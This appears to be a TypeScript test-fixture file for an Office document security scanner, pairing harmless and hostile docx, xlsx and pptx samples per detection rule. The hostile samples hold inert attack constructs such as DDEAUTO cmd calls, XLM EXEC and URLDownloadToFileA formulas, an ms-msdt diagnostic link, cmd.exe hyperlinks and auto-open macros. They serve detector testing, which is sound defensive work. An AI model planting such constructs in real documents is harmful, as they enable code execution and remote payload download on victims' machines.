import { writeOle2 } from "../ole2.ts";
import {
  docx,
  field,
  opc,
  paragraph,
  pptx,
  type SamplePart,
  sheetPart,
  wordPart,
  workbookPart,
  xlsx,
} from "../opc.ts";
import { emptyModule, vbaStreams } from "../vba.ts";
import type { RuleSample } from "./rule-sample.ts";

const linked = (kind: string, target: string) =>
  opc({ main: wordPart(paragraph("Hello"), { relationships: [{ kind, target, mode: "External" }] }) });
const withPart = (part: SamplePart) => docx(paragraph("Hello"), { parts: [part] });
const withProject = (content: Buffer) =>
  withPart({ name: "word/vbaProject.bin", content, type: "application/vnd.ms-office.vbaProject" });
const control = (classId: string) =>
  withPart({
    name: "word/activeX/activeX1.xml",
    content: `<ax:ocx xmlns:ax="urn:x" ax:classid="{${classId}}"/>`,
  });
const named = (name: string) =>
  xlsx(
    [],
    workbookPart(`<definedNames><definedName name="${name}">Sheet1!$A$1</definedName></definedNames>`),
  );
const macroSheet = (cell: string) =>
  xlsx([
    {
      name: "xl/macrosheets/sheet1.xml",
      content: `<xm:macrosheet xmlns:xm="urn:x"><c>${cell}</c></xm:macrosheet>`,
      type: "application/vnd.ms-excel.macrosheet+xml",
    },
  ]);
const connection = (attributes: string) =>
  xlsx([
    {
      name: "xl/connections.xml",
      content: `<connections><connection ${attributes}><webPr url="http://example.com/a"/></connection></connections>`,
    },
  ]);
const withComment = (name: string) => {
  const sheet = sheetPart("NAME(A1)");
  const formula = `${name.slice(0, 2)}<!-- a -->${name.slice(2)}`;
  return xlsx([{ ...sheet, content: sheet.content.toString().replace("NAME", formula) }]);
};
const click = (address: string) => pptx(`<a:hlinkClick action="${address}"/>`);

const hover = (address: string) => pptx(`<a:hlinkMouseOver action="${address}"/>`);
const database = (settings: string) =>
  xlsx([
    {
      name: "xl/connections.xml",
      content: `<connections><connection refreshOnLoad="1"><dbPr connection="${settings}"/></connection></connections>`,
    },
  ]);
const queryTable = (attributes: string) =>
  xlsx([
    {
      name: "xl/connections.xml",
      content: '<connections><connection><webPr url="http://example.com/a"/></connection></connections>',
    },
    { name: "xl/queryTables/queryTable1.xml", content: `<queryTable connectionId="1" ${attributes}/>` },
  ]);
const binaryConnection = (address: string) =>
  xlsx([
    {
      name: "xl/connections.bin",
      content: Buffer.from(address, "utf16le"),
      type: "application/vnd.ms-excel.connections",
    },
  ]);
const addIn = (store: string) =>
  withPart({
    name: "word/webextensions/webextension1.xml",
    content: `<webextension><reference store="${store}" storeType="FileSystem"/></webextension>`,
  });
const chunk = (address: string) =>
  opc({
    main: wordPart(paragraph("Hello"), { relationships: [{ kind: "aFChunk", target: "chunk.html" }] }),
    parts: [
      {
        name: "word/chunk.html",
        content: `<html><body><img src="${address}"></body></html>`,
        type: "text/html",
      },
    ],
  });
const button = (macro: string) =>
  withPart({
    name: "customUI/customUI.xml",
    content: `<customUI xmlns="http://schemas.microsoft.com/office/2006/01/customui"><button onAction="${macro}"/></customUI>`,
  });

const macroEnabled = wordPart(paragraph("Hello"), {
  type: "application/vnd.ms-word.document.macroEnabled.main+xml",
});
const unknownControl = "BDD1F04B-858B-11D1-B16A-00C0F0283628";
const checkBox = "8BD21D40-EC42-11CE-9E0D-00AA006002F3";

const samples: readonly (readonly [rule: string, filename: string, harmless: Buffer, hostile: Buffer])[] = [
  [
    "office-unreadable-macros",
    "letter.docx",
    withProject(writeOle2({ streams: vbaStreams(emptyModule, { storage: "" }) })),
    withProject(Buffer.from("no compound file")),
  ],
  ["office-xlm-macro", "claims.xlsx", macroSheet(""), macroSheet('<f>EXEC("calc")</f>')],
  ["office-auto-run-name", "claims.xlsx", named("Total"), named("_xlnm.Auto_Open")],
  ["office-dde", "letter.docx", docx(field("PAGE")), docx(field('DDEAUTO cmd "/k calc"'))],
  [
    "office-remote-content",
    "letter.docx",
    linked("attachedTemplate", "file:///C:\\templates\\letter.dotx"),
    linked("attachedTemplate", "https://example.com/letter.dotx"),
  ],
  [
    "office-external-link",
    "letter.docx",
    linked("externalLinkPath", "claims.xlsx"),
    linked("externalLinkPath", "https://example.com/claims.xlsx"),
  ],
  [
    "office-dangerous-link",
    "letter.docx",
    linked("hyperlink", "https://example.com/"),
    linked("hyperlink", "ms-msdt:/id PCWDiagnostic"),
  ],
  [
    "office-dangerous-link",
    "letter.docx",
    linked("hyperlink", "C:\\claims\\a.docx"),
    linked("hyperlink", "calc.exe"),
  ],
  [
    "office-dangerous-link",
    "letter.docx",
    docx(field('HYPERLINK "https://example.com/setup.exe"')),
    docx(field('HYPERLINK "search-ms:query=a"')),
  ],
  [
    "office-dangerous-link",
    "claims.xlsx",
    xlsx([sheetPart('HYPERLINK("file:///C:/claims.xlsx","a")')]),
    xlsx([sheetPart('HYPERLINK("file:///C:/Windows/cmd.exe","a")')]),
  ],
  [
    "office-dangerous-link",
    "letter.docx",
    linked("oleObject", "file:///C:/claims.xlsx"),
    linked("oleObject", "file:///C:/Windows/cmd.exe"),
  ],
  [
    "office-remote-content",
    "letter.docx",
    docx(field('DATABASE \\d "C:\\\\a.mdb"')),
    docx(field('DATABASE \\d "http://example.com/a.mdb"')),
  ],
  [
    "office-remote-content",
    "letter.docx",
    docx('<v:imagedata xmlns:v="urn:schemas-microsoft-com:vml" src="a.png"/>'),
    docx('<v:imagedata xmlns:v="urn:schemas-microsoft-com:vml" src="http://example.com/a.png"/>'),
  ],
  ["office-remote-content", "letter.docx", addIn("en-us"), addIn("//example.com/a")],
  ["office-remote-content", "letter.docx", chunk("a.png"), chunk("http://example.com/a.png")],
  ["office-program-action", "slides.pptx", hover("ppaction://hlinksldjump"), hover("ppaction://hlinkfile")],
  ["office-ribbon-macro", "letter.docx", button("Start"), button("//example.com/a.dotm!Start")],
  [
    "office-calling-formula",
    "claims.xlsx",
    xlsx([sheetPart("IMAGE(A1)")]),
    xlsx([sheetPart('_xlfn.IMAGE("http://example.com/a.png")')]),
  ],
  [
    "office-calling-formula",
    "claims.xlsx",
    xlsx([sheetPart('RTD("a.b",,"c")')]),
    xlsx([sheetPart('RTD("a.b","example.com","c")')]),
  ],
  ["office-calling-formula", "claims.xlsx", withComment("SUM"), withComment("WEBSERVICE")],
  [
    "office-xlm-macro",
    "claims.xlsx",
    xlsx([sheetPart("Call(A1,A2)")]),
    xlsx([sheetPart('CALL("urlmon","URLDownloadToFileA","JJCCJJ",0)')]),
  ],
  ["office-refreshed-connection", "claims.xlsx", connection('interval="0"'), connection('interval="5"')],
  [
    "office-refreshed-connection",
    "claims.xlsx",
    database("Provider=Microsoft.Mashup.OleDb.1;Data Source=$Workbook$"),
    database("Provider=SQLOLEDB;Data Source=192.0.2.1"),
  ],
  [
    "office-refreshed-connection",
    "claims.xlsx",
    binaryConnection("C:\\claims.txt"),
    binaryConnection("http://example.com/a"),
  ],
  ["office-refreshed-connection", "claims.xlsx", queryTable(""), queryTable('refreshOnLoad="1"')],
  ["office-program-action", "slides.pptx", click("ppaction://hlinksldjump"), click("ppaction://program")],
  [
    "office-ribbon-macro",
    "letter.docx",
    withPart({ name: "customUI/customUI.xml", content: "<customUI/>" }),
    withPart({ name: "customUI/customUI.xml", content: '<customUI onLoad="Start"/>' }),
  ],
  ["office-activex", "letter.docx", control(checkBox), control(unknownControl)],
  ["office-form-controls", "letter.docx", docx(paragraph("Hello")), control(checkBox)],
  [
    "office-calling-formula",
    "claims.xlsx",
    xlsx([sheetPart("SUM(A1:A3)")]),
    xlsx([sheetPart('_xlfn.WEBSERVICE("http://example.com")')]),
  ],
  ["office-refreshed-connection", "claims.xlsx", connection(""), connection('refreshOnLoad="1"')],
  [
    "office-dtd",
    "letter.docx",
    withPart({ name: "customXml/item1.xml", content: '<?xml version="1.0"?><a/>' }),
    withPart({
      name: "customXml/item1.xml",
      content: '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b "c">]><a/>',
    }),
  ],
  ["office-malformed", "letter.docx", docx(paragraph("Hello")), docx(paragraph("Hello").slice(0, -6))],
];

export const opcRuleSamples: readonly RuleSample[] = [
  ...samples.map(([rule, filename, harmless, hostile]) => ({ rule, filename, harmless, hostile })),
  {
    rule: "office-macros",
    filename: "letter.docm",
    harmlessAs: { filename: "letter.docx" },
    harmless: docx(paragraph("Hello")),
    hostile: opc({ main: macroEnabled }),
  },
];
